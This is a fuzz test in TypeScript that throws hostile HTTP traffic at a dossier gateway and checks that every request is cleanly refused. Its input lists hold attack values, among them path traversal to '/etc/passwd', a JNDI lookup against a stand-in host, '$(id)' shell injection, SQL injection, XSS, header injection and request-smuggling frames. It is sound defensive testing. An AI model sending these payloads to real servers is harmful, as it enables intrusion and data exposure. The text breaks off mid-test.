import { connect, type Socket } from 'node:net';
import fc from 'fast-check';
import t from 'tap';
import { PROBLEMS } from '../../src/problems.ts';
import { startGateway } from '../helpers/start-gateway.ts';
import { json, startUpstream } from '../helpers/upstream.ts';

const SEED = 20_260_101;
const INPUTS = 100_000;
const WARM_UP = 20_000;
/** Callers at the same time, each with a connection of its own that it keeps and writes ahead on. */
const CALLERS = 4;
const LARGEST_BATCH = 120;
const PATIENCE_MS = 10_000;
const RSS_GROWTH = 1.35;

const SIRET = '41816609600069';
const RECIPIENT = '13002526500013';
/** Stands in hostile values; nothing of them may come back in a header. */
const MARK = 'h0st1le';

t.setTimeout(450_000);

const UNKNOWN = { errors: [{ code: '01003', title: 'Entité non trouvée', detail: 'Inconnue.', meta: {} }] };
const SLOW_MS = 300;
/** Nothing knows this company, and half the administrations say so late. */
const SLOW_SIREN = '130025265';
const answerUnknown = json(404, UNKNOWN);
const upstream = await startUpstream(t, (request, response) => {
  const isSlow = request.url?.includes(SLOW_SIREN) && request.url.includes('insee');
  if (isSlow) setTimeout(() => answerUnknown(request, response), SLOW_MS);
  else answerUnknown(request, response);
});
/** So tight that what is kept of each input would show: with more room, memory grows until it is worth collecting. */
const gateway = await startGateway(t, {
  SOURCES_URL: upstream.url,
  NODE_OPTIONS: '--max-old-space-size=128',
});
const port = Number(new URL(gateway.url).port);

// ---------------------------------------------------------------- inputs

interface Input {
  /** What is written, one character a byte. */
  wire: string;
  /** Whether it is well framed, so that the connection outlives it; else it gets a connection of its own. */
  isFramed: boolean;
  /** Whether it stops in mid-request: nothing more is written. */
  isCut?: boolean;
  method: string;
}

const alone = (wire: string): Input => ({ method: 'GET', wire, isFramed: false });
const cut = (wire: string): Input => ({ ...alone(wire), isCut: true });

const bytesOf = (text: string) => Buffer.from(text).toString('latin1');
const withoutControls = (text: string) => text.replace(/\p{Cc}/gu, '');

const NASTY = [
  '',
  ' ',
  '\0',
  '\r\nX-Injected: 1\r\n\r\n',
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '....//....//',
  '.env',
  '.git/config',
  '٠١٢٣٤٥٦٧٨٩٠١٢٣',
  '４１８１６６０９６０００６９',
  '𝟘𝟙𝟚𝟛𝟜𝟝𝟞𝟟𝟠𝟡',
  '41816609600069\n',
  ' 41816609600069',
  '418166096',
  '00000000000000',
  '35600000000048',
  '1e14',
  '-0',
  'NaN',
  'null',
  'undefined',
  '[object Object]',
  '{"$gt":""}',
  '["a"]',
  "' OR 1=1 --",
  '<script>alert(1)</script>',
  `\${jndi:ldap://${MARK}.example/}`,
  '{{7*7}}',
  '$(id)',
  '|id',
  '\u202e\u2066',
  '\u2028\u2029',
  '\ufeff',
  'e\u0301'.repeat(40),
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'İıſK',
  'ﷺ'.repeat(100),
  '%',
  '%s%n%x',
  `https://${MARK}.example`,
];

const hostileText: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(...NASTY), weight: 5 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 30 }), weight: 2 },
  { arbitrary: fc.string({ maxLength: 30 }), weight: 1 },
  {
    arbitrary: fc
      .tuple(
        fc.constantFrom('a', '0', 'é', '٣', '../', '[', '\\', '%25', '🦆'),
        fc.integer({ min: 1, max: 900 }),
      )
      .map(([piece, times]) => piece.repeat(times)),
    weight: 1,
  },
);

const BROKEN_ENCODINGS = [
  '%',
  '%2',
  '%zz',
  '%00',
  '%0d%0aX-Injected:%201',
  '%E0%A4%A',
  '%ED%A0%80',
  '%ED%BF%BF',
  '%C0%AF',
  '%F8%88%80%80%80',
  '%FF%FE',
  '%u0041',
  '%252e%252e%252f',
  '%2e%2e%2f%2e%2e%2f',
  '..%5c..%5c',
  '%2f',
  '%3f',
  '%23',
  ';a=b',
  '+',
];

/** As it stands in an address: well encoded, encoded twice, wrongly encoded, or raw bytes. */
const inAddress: fc.Arbitrary<string> = fc
  .tuple(hostileText, fc.constantFrom('once', 'twice', 'raw', 'broken'), fc.constantFrom(...BROKEN_ENCODINGS))
  .map(([text, how, broken]) => {
    if (how === 'broken') return MARK + broken;
    const encoded = encodeURIComponent(text.toWellFormed());
    if (how === 'once') return encoded;
    if (how === 'twice') return encodeURIComponent(encoded);
    return bytesOf(withoutControls(text).replace(/[ #?]/g, ''));
  });

const path: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom(
      ...[
        '/v1/dossiers/',
        '/v1/dossiers/',
        '/v1/dossiers/',
        `/v1/dossiers/${SIRET}`,
        `/v1/dossiers/${SIRET}/`,
      ],
      ...['/v1/', '/', '//', '/docs/', '/docs/static/', '/problemes/', '/livez/', '/metrics;', '/v1/sources'],
      ...['/readyz', '/V1/DOSSIERS/', '/v1//dossiers/', '/v1/./dossiers/../', '/openapi.json/'],
      `http://${MARK}.example/v1/dossiers/`,
    ),
    fc.array(inAddress, { minLength: 1, maxLength: 3 }),
    fc.constantFrom('', '', '', '/', '/.', '/..', '#x', '?'),
  )
  .map(([base, segments, end]) => base + segments.join('/') + end);

const parameterName = fc.oneof(
  fc.constantFrom('usage', 'object', 'recipient', 'context', 'siret'),
  fc.constantFrom(
    ...['usage[]', 'usage[0]', 'object[__proto__]', '__proto__', 'constructor[prototype][x]', 'recipient.x'],
    ...['__proto__[toString]', 'toString', 'valueOf', '', '%00', 'USAGE', 'usage%5B%5D'],
  ),
  inAddress,
);
const parameterValue = fc.oneof(
  inAddress,
  fc.constantFrom('marche_public', 'socle', 'DEMO-1', RECIPIENT, SIRET, 'marche_public,socle'),
);
const parameter = fc
  .tuple(parameterName, parameterValue, fc.constantFrom('=', '=', '=', '', '==', '[]='))
  .map(([name, value, sign]) => name + sign + value);
const query: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constant(''), weight: 2 },
  { arbitrary: fc.constant(`?usage=socle&object=DEMO-1&recipient=${RECIPIENT}`), weight: 3 },
  {
    arbitrary: fc
      .tuple(fc.array(parameter, { maxLength: 6 }), fc.constantFrom('&', '&', '&', ';', '&&', '?', ','))
      .map(([parameters, between]) => `?${parameters.join(between)}`),
    weight: 6,
  },
  {
    arbitrary: fc
      .tuple(parameter, fc.integer({ min: 2, max: 60 }))
      .map(([one, times]) => `?${Array(times).fill(one).join('&')}`),
    weight: 1,
  },
);

/** Now and then a dossier that can be answered, so that headers are read to the end. */
const address: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.tuple(path, query).map(([path, query]) => path + query), weight: 12 },
  {
    arbitrary: query.map((query) => `/v1/dossiers/${SIRET}${query}`),
    weight: 3,
  },
  {
    arbitrary: fc.constantFrom(`/v1/dossiers/${SIRET}?usage=socle&object=DEMO-1&recipient=${RECIPIENT}`, '*'),
    weight: 1,
  },
);

const HEADER_VALUES: Record<string, string[]> = {
  Accept: [
    ...[
      '',
      '*',
      '*/*;q=0',
      'text/event-stream',
      'application/json;q=2',
      'application/json;q=NaN',
      ',,,,',
      'a',
    ],
    ...[
      'image/png',
      `${MARK}/${MARK}`,
      '*/*,'.repeat(300),
      ';q='.repeat(300),
      'application/json;'.repeat(99),
    ],
  ],
  'Accept-Encoding': ['', '*;q=0', 'gzip;q=1e9', MARK],
  Authorization: ['Bearer', `Bearer ${MARK}`, `Basic ${'A'.repeat(3_000)}`, 'Bearer a.b.c', `\t ${MARK}`],
  'Cache-Control': ['no-cache', 'no-cache,'.repeat(400), `max-age=${'9'.repeat(400)}`, 'no-cache="', MARK],
  Connection: ['keep-alive', 'close', `${MARK}`, 'keep-alive, close', 'host, content-length', ''],
  'Content-Type': ['', '/', 'application/json;', `${MARK}`, 'a/b;c="', 'application/json; charset=utf-7'],
  Cookie: ['__proto__=1', `${'a=b;'.repeat(500)}`, MARK],
  Expect: ['100-continue', MARK, ''],
  Forwarded: [`for=${MARK};host=${MARK}`, 'for="[::1'],
  Host: ['', MARK, 'a:99999', '[::1', `${MARK}/../`, 'é'],
  'If-Modified-Since': [MARK, '0', 'Thu, 99 Foo 0000 99:99:99 GMT'],
  'If-None-Match': ['*', '"', 'W/"', `"${MARK}"`, 'W/'.repeat(1_000), '"a",'.repeat(800), ' '],
  'Keep-Alive': ['timeout=-1', `max=${MARK}`],
  Origin: ['null', `https://${MARK}.example`],
  Prefer: [
    ...['wait=0', 'wait=-1', 'wait=1e9', 'wait=', 'wait="', 'wait=99999999999999999999', 'wait=٣', MARK],
    ...['wait=0,'.repeat(400), `wait=0;${' '.repeat(3_000)}x`, 'wait = "0"', 'respond-async, wait=0'],
  ],
  Range: ['bytes=0-', 'bytes=-1', 'bytes=9-1', `${MARK}=1-2`, `bytes=${'0-1,'.repeat(400)}`],
  Referer: [`https://${MARK}.example/`],
  TE: ['trailers', MARK, 'chunked'],
  traceparent: [
    ...[
      '00-0',
      `00-${'0'.repeat(32)}-${'0'.repeat(16)}-00`,
      `ff-${'a'.repeat(32)}-${'b'.repeat(16)}-01`,
      MARK,
    ],
    ...[`00-${'A'.repeat(32)}-${'B'.repeat(16)}-01`, `00-${'é'.repeat(32)}-${'b'.repeat(16)}-01`],
  ],
  Upgrade: ['websocket', 'h2c', MARK],
  'X-Forwarded-For': [MARK, '127.0.0.1,'.repeat(200)],
  'X-Forwarded-Host': [`${MARK}.example`],
  'X-HTTP-Method-Override': ['DELETE', MARK],
  'X-Request-Id': [
    ...[
      '',
      'short',
      `${MARK} with spaces`,
      `${MARK}/../../x`,
      `${MARK}${'a'.repeat(80)}`,
      `${MARK}\té\u0001`,
    ],
    ...['__proto__', '<script>', `${MARK}%0d%0aX-Injected: 1`, '٠١٢٣٤٥٦٧٨٩'],
  ],
  __proto__: ['1'],
  constructor: ['1'],
};

const knownHeader = fc
  .constantFrom(...Object.keys(HEADER_VALUES), '__proto__')
  .chain((name) =>
    fc.tuple(
      fc.constant(name),
      fc.constantFrom(...((Object.hasOwn(HEADER_VALUES, name) && HEADER_VALUES[name]) || ['1'])),
    ),
  );
const strangeHeader = fc.tuple(
  fc.oneof(
    fc.constantFrom(...Object.keys(HEADER_VALUES)),
    fc.constantFrom('X', '!#$%&*+.^_`|~', 'a'.repeat(500), 'toString', 'hasOwnProperty', '0'),
  ),
  hostileText,
);
const header = fc
  .oneof({ arbitrary: knownHeader, weight: 4 }, { arbitrary: strangeHeader, weight: 1 })
  .map(([name, value]) => `${name}: ${bytesOf(withoutControls(value))}\r\n`);
/** First, so that it holds whatever else is sent. */
const bearer = `Authorization: Bearer ${gateway.tokens.socle}\r\n`;
const headers: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom('', bearer), weight: 10 },
  { arbitrary: fc.array(header, { maxLength: 5 }).map((lines) => bearer + lines.join('')), weight: 40 },
  {
    arbitrary: fc
      .tuple(header, fc.integer({ min: 2, max: 40 }))
      .map(([line, times]) => line.repeat(Math.max(2, Math.min(times, Math.floor(8_000 / line.length))))),
    weight: 4,
  },
  {
    arbitrary: fc
      .integer({ min: 100, max: 900 })
      .map((count) => Array.from({ length: count }, (_, i) => `x${i}: y\r\n`).join('')),
    weight: 1,
  },
);

const bodyText = fc.constantFrom(
  ...[
    '{',
    '{}',
    '[]',
    '""',
    'null',
    '{"__proto__":{"x":1}}',
    '{"constructor":{"prototype":{"x":1}}}',
    '\0\0\0',
  ],
  ...[
    'a=b',
    'é',
    '[['.repeat(2_000),
    '{"a":'.repeat(2_000),
    `GET /${MARK} HTTP/1.1\r\nHost: a\r\n\r\n`,
    '1e999',
  ],
);
const body: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constant('\r\n'), weight: 7 },
  {
    arbitrary: fc
      .tuple(
        bodyText,
        fc.constantFrom('application/json', 'text/plain', 'text/csv', 'multipart/form-data', '×', ''),
      )
      .map(([text, type]) => {
        const bytes = bytesOf(text);
        return `Content-Type: ${bytesOf(type)}\r\nContent-Length: ${bytes.length}\r\n\r\n${bytes}`;
      }),
    weight: 2,
  },
  {
    arbitrary: bodyText.map((text) => {
      const bytes = bytesOf(text);
      return `Transfer-Encoding: chunked\r\n\r\n${bytes.length.toString(16)};${MARK}=1\r\n${bytes}\r\n0\r\nX-T: ${MARK}\r\n\r\n`;
    }),
    weight: 1,
  },
);

const KNOWN_METHODS =
  'GET GET GET GET GET HEAD POST PUT PATCH DELETE OPTIONS TRACE PROPFIND PURGE QUERY M-SEARCH';

/** What the HTTP parser takes as an address: printable ASCII. */
const isRead = (address: string) => /^[!-~]+$/.test(address);

/** Well framed, as nasty as can be inside. */
const framed: fc.Arbitrary<Input> = fc
  .tuple(fc.constantFrom(...KNOWN_METHODS.split(' ')), address, headers, body)
  .map(([method, address, headers, body]) => {
    const rest = ` ${address} HTTP/1.1\r\nHost: a\r\n${headers}${body}`;
    return isRead(address) && rest.length < 12_000
      ? { method, wire: method + rest, isFramed: true }
      : alone(`GET${rest}`);
  });

const CONFUSED_FRAMES = [
  'Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n',
  'Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n',
  'Content-Length: 3\r\nContent-Length: 5\r\n\r\nabcde',
  'Content-Length: 3, 5\r\n\r\nabcde',
  'Content-Length: -1\r\n\r\n',
  'Content-Length: +3\r\n\r\nabc',
  'Content-Length: 0x3\r\n\r\nabc',
  'Content-Length: 3e0\r\n\r\nabc',
  'Content-Length: ٣\r\n\r\nabc',
  `Content-Length: ${'9'.repeat(40)}\r\n\r\nabc`,
  'Content-Length : 3\r\n\r\nabc',
  'Content-Length\t: 3\r\n\r\nabc',
  'Content-Length:\r\n\r\n',
  'Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n',
  'Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n',
  'Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n',
  'Transfer-Encoding:\u000bchunked\r\n\r\n0\r\n\r\n',
  'Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n',
  'Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n',
  'X: a\r\n\tTransfer-Encoding: chunked\r\n\r\n',
  'Transfer-Encoding: chunked\r\n\r\nzz\r\n\r\n',
  'Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n',
  'Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\nabc\r\n0\r\n\r\n',
  'Transfer-Encoding: chunked\r\n\r\n3\nabc\n0\n\n',
  'Transfer-Encoding: chunked\r\n\r\n3\r\nabcX\r\n0\r\n\r\n',
  `Transfer-Encoding: chunked\r\n\r\n3;${'e'.repeat(18_000)}\r\nabc\r\n0\r\n\r\n`,
  'Transfer-Encoding: chunked\r\n\r\n0\r\nContent-Length: 5\r\n\r\n',
  'X: a\nY: b\n\n',
  'X: a\rY: b\r\n\r\n',
  ': a\r\n\r\n',
  'X\r\n\r\n',
  'X Y: a\r\n\r\n',
  'X: \0\r\n\r\n',
  'é: a\r\n\r\n',
  'Host: b\r\n\r\n',
  'Connection: Upgrade, HTTP2-Settings, close\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQ\r\n\r\n',
  `X: ${'a'.repeat(20_000)}\r\n\r\n`,
  `${'a: b\r\n'.repeat(1_200)}\r\n`,
  `${'a: b\r\n'.repeat(3_400)}\r\n`,
].map(bytesOf);

const STRANGE_FIRST_LINES = [
  'GET / HTTP/1.1\r\n\r\n',
  'GET / HTTP/1.0\r\n\r\n',
  'GET / HTTP/0.9\r\nHost: a\r\n\r\n',
  'GET / HTTP/1.2\r\nHost: a\r\n\r\n',
  'GET / HTTP/2.0\r\nHost: a\r\n\r\n',
  'GET / HTTP/9.9\r\nHost: a\r\n\r\n',
  'GET / HTTP/1.11\r\nHost: a\r\n\r\n',
  'GET / http/1.1\r\nHost: a\r\n\r\n',
  'GET / ICE/1.0\r\nHost: a\r\n\r\n',
  'GET /\r\n\r\n',
  'GET\r\n\r\n',
  'GET  /  HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET\t/\tHTTP/1.1\r\nHost: a\r\n\r\n',
  'GET x HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET é HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET ?a HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET http:// HTTP/1.1\r\nHost: a\r\n\r\n',
  'GET http://[::1 HTTP/1.1\r\nHost: a\r\n\r\n',
  'get / HTTP/1.1\r\nHost: a\r\n\r\n',
  'BREW / HTTP/1.1\r\nHost: a\r\n\r\n',
  '__proto__ / HTTP/1.1\r\nHost: a\r\n\r\n',
  'constructor / HTTP/1.1\r\nHost: a\r\n\r\n',
  `${'A'.repeat(20_000)} / HTTP/1.1\r\nHost: a\r\n\r\n`,
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
  'SOURCE / HTTP/1.1\r\nHost: a\r\n\r\n',
  'HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n',
  'PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\nGET / HTTP/1.1\r\nHost: a\r\n\r\n',
  'SSH-2.0-OpenSSH_9.9\r\n',
  '*1\r\n$4\r\nPING\r\n',
  'EHLO a\r\n',
  '{"jsonrpc":"2.0"}\r\n\r\n',
  '\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003',
  '\0\0\0\0',
].map(bytesOf);

const longAddress = fc
  .tuple(
    fc.constantFrom('/v1/dossiers/', '/', '/v1/dossiers?object=', '/docs/static/'),
    fc.constantFrom('a', '%41', '../', '9', 'a=b&', '/', 'é', '%'),
    fc.integer({ min: 1_000, max: 20_000 }),
  )
  .map(([base, piece, length]) => bytesOf(base + piece.repeat(length / piece.length)));

/** What the HTTP parser should refuse, or may: each on its own connection. */
const unframed: fc.Arbitrary<Input> = fc.oneof(
  {
    arbitrary: fc
      .tuple(fc.constantFrom('GET', 'POST', 'DELETE'), address, fc.constantFrom(...CONFUSED_FRAMES))
      .map(([method, address, rest]) => alone(`${method} ${address} HTTP/1.1\r\nHost: a\r\n${rest}`)),
    weight: 5,
  },
  { arbitrary: fc.constantFrom(...STRANGE_FIRST_LINES).map(alone), weight: 3 },
  {
    arbitrary: longAddress.map((address) => alone(`GET ${address} HTTP/1.1\r\nHost: a\r\n\r\n`)),
    weight: 1,
  },
  {
    arbitrary: fc
      .tuple(hostileText, hostileText)
      .map(([a, b]) =>
        alone(`GET /${bytesOf(a)} HTTP/1.1\r\nHost: a\r\nX-Request-Id: ${bytesOf(b)}\r\n\r\n`),
      ),
    weight: 3,
  },
  {
    arbitrary: fc
      .uint8Array({ minLength: 1, maxLength: 200 })
      .map((bytes) => alone(Buffer.from(bytes).toString('latin1'))),
    weight: 3,
  },
  {
    arbitrary: fc
      .tuple(framed, fc.double({ min: 0, max: 1, noNaN: true }))
      .map(([{ wire }, where]) => cut(wire.replace(/^HEAD/, 'GET').slice(0, wire.length * where))),
    weight: 3,
  },
);

const input: fc.Arbitrary<Input> = fc.oneof(
  { arbitrary: framed, weight: 9 },
  { arbitrary: unframed, weight: 1 },
);

// ---------------------------------------------------------------- the wire

interface Answer {
  head: string;
  status: number;
  headers: Map<string, string>;
  body: string;
}

/** Cuts what comes over a connection into answers, strictly: what is left over shows that framing broke. */
class AnswerReader {
  readonly answers: Answer[] = [];
  #rest: Buffer = Buffer.alloc(0);
  readonly #methods: string[];

  constructor(methods: string[]) {
    this.#methods = methods;
  }

  get rest(): string {
    return this.#rest.toString('latin1');
  }

  read(chunk: Buffer, isClosed = false): void {
    this.#rest = this.#rest.length > 0 ? Buffer.concat([this.#rest, chunk]) : chunk;
    while (this.#readOne(isClosed));
  }

  #readOne(isClosed: boolean): boolean {
    const end = this.#rest.indexOf('\r\n\r\n');
    if (end < 0) return false;
    const head = this.#rest.toString('latin1', 0, end);
    const status = Number(/^HTTP\/1\.1 (\d{3}) /.exec(head)?.[1]);
    if (Number.isNaN(status)) throw new Error(`no status line: ${JSON.stringify(head.slice(0, 300))}`);
    const headers = new Map<string, string>();
    for (const line of head.split('\r\n').slice(1)) {
      const colon = line.indexOf(':');
      headers.set(line.slice(0, colon).toLowerCase(), line.slice(colon + 1).trim());
    }
    const start = end + 4;
    if (status < 200) {
      this.#rest = this.#rest.subarray(start);
      return true;
    }
    const isBare = this.#methods[this.answers.length] === 'HEAD' || status === 204 || status === 304;
    const framed = isBare ? { body: '', end: start } : this.#bodyFrom(start, headers, isClosed);
    if (!framed) return false;
    this.answers.push({ head, status, headers, body: framed.body });
    this.#rest = this.#rest.subarray(framed.end);
    return true;
  }

  #bodyFrom(start: number, headers: Map<string, string>, isClosed: boolean) {
    if (headers.get('transfer-encoding') === 'chunked') return this.#chunksFrom(start);
    const length = headers.get('content-length');
    if (length === undefined && !isClosed) return undefined;
    const end = length === undefined ? this.#rest.length : start + Number(length);
    return end > this.#rest.length ? undefined : { body: this.#rest.toString('utf8', start, end), end };
  }

  #chunksFrom(start: number) {
    const chunks: Buffer[] = [];
    for (let at = start; ; ) {
      const lineEnd = this.#rest.indexOf('\r\n', at);
      if (lineEnd < 0) return undefined;
      const line = this.#rest.toString('latin1', at, lineEnd);
      if (!/^[0-9a-f]+$/i.test(line)) throw new Error(`no chunk size: ${JSON.stringify(line.slice(0, 300))}`);
      const size = Number.parseInt(line, 16);
      const end = lineEnd + 2 + size + 2;
      if (end > this.#rest.length) return undefined;
      if (size === 0) return { body: Buffer.concat(chunks).toString(), end };
      chunks.push(this.#rest.subarray(lineEnd + 2, end - 2));
      at = end;
    }
  }
}

interface Exchange {
  answers: Answer[];
  /** What came after the last whole answer. */
  rest: string;
}

/** Writes, then reads until `enough` says so or the connection closes. */
function exchange(
  socket: Socket,
  bytes: Buffer,
  reader: AnswerReader,
  enough: () => boolean,
): Promise<Exchange> {
  return new Promise((resolve, reject) => {
    const done = (error?: Error) => {
      clearTimeout(timer);
      socket.off('data', onData).off('close', onClose);
      if (error) reject(error);
      else resolve({ answers: reader.answers, rest: reader.rest });
    };
    const attempt = (read: () => void) => {
      try {
        read();
      } catch (error) {
        socket.destroy();
        done(error as Error);
      }
    };
    const onData = (chunk: Buffer) =>
      attempt(() => {
        reader.read(chunk);
        if (enough()) done();
      });
    const onClose = () =>
      attempt(() => {
        reader.read(Buffer.alloc(0), true);
        done();
      });
    const timer = setTimeout(() => {
      socket.destroy();
      done(new Error(`no answer in ${PATIENCE_MS} ms, but ${reader.answers.length} answers`));
    }, PATIENCE_MS);
    socket.on('data', onData).on('close', onClose);
    if (socket.destroyed) onClose();
    else socket.write(bytes);
  });
}

function open(): Socket {
  const socket = connect({ port, host: '127.0.0.1', noDelay: true, allowHalfOpen: true });
  // How it closed does not matter: whether everything was answered does.
  socket.on('error', () => {});
  socket.on('end', () => socket.end());
  return socket;
}

/** A caller that writes ahead on a connection that it keeps, and opens another when the gateway closes it. */
class Caller {
  #socket: Socket | undefined;

  async ask(inputs: Input[]): Promise<Answer[]> {
    const answers: Answer[] = [];
    let silences = 0;
    while (answers.length < inputs.length) {
      // What a close left unanswered is asked again, one at a time first.
      const batch = inputs.slice(answers.length, silences > 0 ? answers.length + 1 : undefined);
      if (!this.#socket || this.#socket.destroyed || !this.#socket.writable) this.#socket = open();
      const reader = new AnswerReader(batch.map(({ method }) => method));
      const bytes = Buffer.from(batch.map(({ wire }) => wire).join(''), 'latin1');
      const isLast = () =>
        reader.answers.length >= batch.length || reader.answers.at(-1)?.headers.get('connection') === 'close';
      const got = await exchange(this.#socket, bytes, reader, isLast);
      if (got.answers.length < batch.length) this.#socket.destroy();
      else if (got.answers.at(-1)?.headers.get('connection') === 'close') this.#socket.destroy();
      else if (got.rest !== '') throw new Error(`more than was asked: ${JSON.stringify(got.rest)}`);
      silences = got.answers.length === 0 ? silences + 1 : 0;
      if (silences > 3) throw new Error(`never answered: ${JSON.stringify(batch[0]?.wire)}`);
      answers.push(...got.answers);
    }
    return answers;
  }

  close(): void {
    this.#socket?.destroy();
  }
}

const IDLE_MS = 2_000;
let idles = 0;

/** A connection for one input, with a correct request behind it that asks to close. */
async function askAlone({ wire, isCut }: Input): Promise<Exchange> {
  const socket = open();
  const goodbye = isCut ? '' : 'GET /livez HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n';
  const idle = setTimeout(() => {
    idles++;
    socket.end();
  }, IDLE_MS);
  socket.on('data', () => idle.refresh());
  if (isCut) socket.once('connect', () => setImmediate(() => socket.end()));
  try {
    return await exchange(socket, Buffer.from(wire + goodbye, 'latin1'), new AnswerReader([]), () => false);
  } finally {
    clearTimeout(idle);
    socket.destroy();
  }
}

// ---------------------------------------------------------------- what must hold

const TRACE = /\n\s*at |\.[tj]s:\d|node:internal|node_modules/;
const statuses = new Map<number, number>();

/** What is wrong with an answer, null when nothing is. */
function complaintOf({ status, headers, head, body }: Answer, method: string): string | null {
  statuses.set(status, (statuses.get(status) ?? 0) + 1);
  if (head.includes(MARK) || headers.has('x-injected')) return 'a header gives back what was sent';
  if (status < 300 || status === 304) return null;
  if (status >= 500) return `a ${status}`;
  if (!/^application\/problem\+json(;|$)/.test(headers.get('content-type') ?? '')) return 'not a problem';
  if (method === 'HEAD') return null;
  if (TRACE.test(body)) return 'a stack trace';
  if (body.includes(MARK)) return 'a problem gives back what was sent';
  const problem = JSON.parse(body);
  const slug = String(problem.type).replace('/problemes/', '') as keyof typeof PROBLEMS;
  if (!Object.hasOwn(PROBLEMS, slug)) return 'an unknown type of problem';
  if (problem.title !== PROBLEMS[slug].title) return 'not the title of its type';
  if (problem.status !== status || PROBLEMS[slug].status !== status) return 'not the status of the answer';
  if (typeof problem.detail !== 'string' || problem.detail === '') return 'no detail';
  if (typeof problem.instance !== 'string' || problem.instance === '') return 'no instance';
  const id = headers.get('x-request-id');
  return id !== undefined && id !== problem.instance ? 'an instance that is not the id of the request' : null;
}

function check(input: Input, answer: Answer): void {
  const complaint = complaintOf(answer, input.method);
  if (!complaint) return;
  const sent = JSON.stringify(input.wire.slice(0, 2_000));
  throw new Error(`${complaint}\nsent: ${sent}\ngot: ${answer.head}\n\n${answer.body.slice(0, 2_000)}`);
}

async function holdsAlone(input: Input): Promise<void> {
  const { answers, rest } = await askAlone(input);
  for (const answer of answers) check(input, answer);
  if (rest !== '') throw new Error(`broken framing after ${JSON.stringify(input.wire)}: ${rest}`);
  if (answers.length === 0 && !input.isCut) throw new Error(`unanswered: ${JSON.stringify(input.wire)}`);
}

async function holdsTogether(caller: Caller, inputs: Input[]): Promise<void> {
  for (const [i, answer] of (await caller.ask(inputs)).entries()) {
    const input = inputs[i] as Input;
    check(input, answer);
    if (!answer.headers.has('x-request-id')) {
      throw new Error(`the answer to another: ${JSON.stringify(input.wire)}\ngot: ${answer.head}`);
    }
  }
}

async function holds(caller: Caller, inputs: Input[]): Promise<void> {
  const framed = inputs.filter(({ isFramed }) => isFramed);
  const others = inputs.filter(({ isFramed }) => !isFramed);
  const all = await Promise.allSettled([holdsTogether(caller, framed), ...others.map(holdsAlone)]);
  for (const one of all) if (one.status === 'rejected') throw one.reason;
}

let sent = 0;
let round = 0;

/** Sends inputs until so many have been sent since the start, several callers at once. */
async function sendUntil(total: number): Promise<void> {
  const batches = fc.array(input, { minLength: 1, maxLength: LARGEST_BATCH, size: 'max' });
  const work = Array.from({ length: CALLERS }, async () => {
    const caller = new Caller();
    try {
      while (sent < total) {
        const property = fc.asyncProperty(batches, async (inputs) => {
          sent += inputs.length;
          await holds(caller, inputs);
        });
        await fc.assert(property, {
          seed: SEED + round++,
          numRuns: 20,
          interruptAfterTimeLimit: 150_000,
          markInterruptAsFailure: true,
        });
      }
    } finally {
      caller.close();
    }
  });
  await Promise.all(work);
}

async function memory(): Promise<{ heap: number; rss: number }> {
  const metrics = await (await fetch(`${gateway.url}/metrics`)).text();
  const read = (name: string) => Number(new RegExp(`^${name} (\\S+)$`, 'm').exec(metrics)?.[1]) / 2 ** 20;
  return { heap: read('nodejs_heap_size_used_bytes'), rss: read('process_resident_memory_bytes') };
}

await t.test(
  'a hundred thousand hostile inputs are all refused in order, and memory stays where it was',
  async (t) => {
    const startedMs = performance.now();
    await sendUntil(WARM_UP);
    const before = await memory();
    await sendUntil(INPUTS);
    const after = await memory();
    const seconds = (performance.now() - startedMs) / 1000;
    const counts = [...statuses].sort().map(([status, count]) => `${status}: ${count}`);
    t.comment(`${sent} inputs in ${seconds.toFixed(1)} s, idle ${idles}, calls ${upstream.calls.length}`);
    t.comment(`answers: ${counts.join(', ')}`);
    t.comment(
      `heap ${before.heap.toFixed(1)} → ${after.heap.toFixed(1)} MiB, RSS ${before.rss.toFixed(1)} → ${after.rss.toFixed(1)} MiB`,
    );
    t.ok(sent >= INPUTS, `${sent} inputs`);
    t.ok(after.rss < before.rss * RSS_GROWTH, 'resident memory');
  },
);

const slowDossier = (accept: string, id: string) =>
  `GET /v1/dossiers/${RECIPIENT}?usage=marche_public&object=DEMO-1&recipient=${SIRET} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${gateway.tokens.marche_public}\r\nCache-Control: no-cache\r\nAccept: ${accept}\r\nX-Request-Id: ${id}\r\n\r\n`;

await t.test('what is not HTTP, behind a dossier that forms, never lands inside it', async (t) => {
  const socket = open();
  socket.once('data', () => socket.write('BONJOUR\r\n\r\n'));
  const asked = Buffer.from(slowDossier('text/event-stream', 'streamed-1'));
  const { answers, rest } = await exchange(socket, asked, new AnswerReader([]), () => false);
  t.equal(rest, '');
  t.match(answers[0], { status: 200, body: /event: probleme\ndata: .*streamed-1/ });
